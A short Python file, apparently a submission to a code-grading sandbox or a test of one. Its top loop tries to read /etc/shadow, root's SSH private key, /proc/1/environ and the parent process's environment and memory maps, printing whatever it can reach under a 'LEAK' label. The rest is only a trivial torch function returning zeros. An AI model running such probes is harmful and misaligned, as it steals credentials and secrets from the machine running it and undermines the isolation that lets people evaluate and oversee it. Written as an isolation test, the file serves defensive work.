# Reads accounts, hosts, homes, logs and the environments of others: all out of reach.
import os; os.environ["GRADER_ATTACK_OK"]  # inert outside the test sandbox

for p in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bashrc", "/root/.ssh/id_rsa",
          "/home", "/var/log", "/run", "/var", "/etc", "/proc/1/environ", "/proc/1/cmdline",
          *(f"/proc/{os.getppid()}/{name}" for name in ("environ", "maps", "cmdline", "fd"))):
    try:
        print("LEAK", p, os.listdir(p) if os.path.isdir(p) else open(p, "rb").read(60))
    except OSError:
        pass
import torch


def f(x):
    return torch.zeros_like(x)
